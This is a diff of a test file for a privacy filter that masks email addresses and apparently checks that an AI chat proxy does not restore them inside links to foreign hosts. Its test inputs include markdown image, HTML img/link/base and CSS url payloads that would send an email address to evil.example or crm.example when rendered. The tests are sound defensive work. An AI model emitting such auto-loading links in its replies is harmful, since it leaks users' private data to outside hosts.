@@ -81,6 +81,18 @@ describe('no value leaves through a link to a foreign host', () => {
     "<style>@import '//evil.example/[EMAIL_1]';</style>",
     '<base href="https://evil.example/"><img src="?q=[EMAIL_1]">',
     '<BASE/href=//evil.example/>\n![x](a?q=[EMAIL_1])',
+    '![x](https://crm.example/?q=[EMAIL_1])',
+    '![x](//crm.example/?q=[EMAIL_1])',
+    '![a [b](c)](https://crm.example/?q=[EMAIL_1])',
+    '![a `[` b](https://crm.example/?q=[EMAIL_1])',
+    '![a \\] b](https://crm.example/?q=[EMAIL_1])',
+    'https://crm.example/![x](https://crm.example/?q=[EMAIL_1])',
+    '![x][1]\n\n[1]: https://crm.example/?q=[EMAIL_1]',
+    '<img src="https://crm.example/[EMAIL_1]">',
+    '<img a href src="https://crm.example/[EMAIL_1]">',
+    '<link a href="https://crm.example/[EMAIL_1]">',
+    '<p style="background:url(https://crm.example/[EMAIL_1])">',
+    '<style>body{background:url(//crm.example/[EMAIL_1])}</style>',
     `see https://${'a'.repeat(2000)}/[EMAIL_1]`,
     `see https://evil.example/${'a'.repeat(5000)}[EMAIL_1]`,
   ]) {
@@ -97,7 +109,12 @@ describe('values go where they harm nobody', () => {
   for (const [text, expected] of [
     ['[crm](https://crm.example/?q=[EMAIL_1])', '[crm](https://crm.example/?q=ann@corp.example)'],
     ['https://CRM.example:8443/a//b/[EMAIL_1]', 'https://CRM.example:8443/a//b/ann@corp.example'],
-    ['<img src="https://crm.example/[EMAIL_1]">', '<img src="https://crm.example/ann@corp.example">'],
+    ['<a href="https://crm.example/[EMAIL_1]">', '<a href="https://crm.example/ann@corp.example">'],
+    ['<a\nclass=x href=https://crm.example/[EMAIL_1]>', '<a\nclass=x href=https://crm.example/ann@corp.example>'],
+    ['<img src="https://api.work.example/[EMAIL_1]">', '<img src="https://api.work.example/ann@corp.example">'],
+    ['![x](https://api.work.example/[EMAIL_1])', '![x](https://api.work.example/ann@corp.example)'],
+    ['Hi! [crm](https://crm.example/[EMAIL_1])', 'Hi! [crm](https://crm.example/ann@corp.example)'],
+    ['![x](/local/[EMAIL_1].png)', '![x](/local/ann@corp.example.png)'],
     ['https://api.work.example/[EMAIL_1]', 'https://api.work.example/ann@corp.example'],
     ['[a](mailto:[EMAIL_1])', '[a](mailto:ann@corp.example)'],
     ['<a href="mailto:[EMAIL_1]">[PERSON_1]</a>', '<a href="mailto:ann@corp.example">Ann Weber</a>'],
@@ -141,6 +158,13 @@ describe('whose hosts count', () => {
     ],
   });
   const answer = 'https://there.example/?[EMAIL_1]';
+
+  test('an image that the caller wrote with the value comes back', () => {
+    const text = 'Keep ![x](https://there.example/ann@corp.example) as it is.';
+    const body = { messages: [{ role: 'user', content: text }] };
+    const { placeholders } = maskRequest(body, findEmails, { pii: 'obfuscate', note: false });
+    expect(restoreText(body.messages[0]?.content ?? '', placeholders)).toBe(text);
+  });
 
   for (const role of ['user', 'system', 'developer']) {
     test(`those of a ${role} message`, () => {
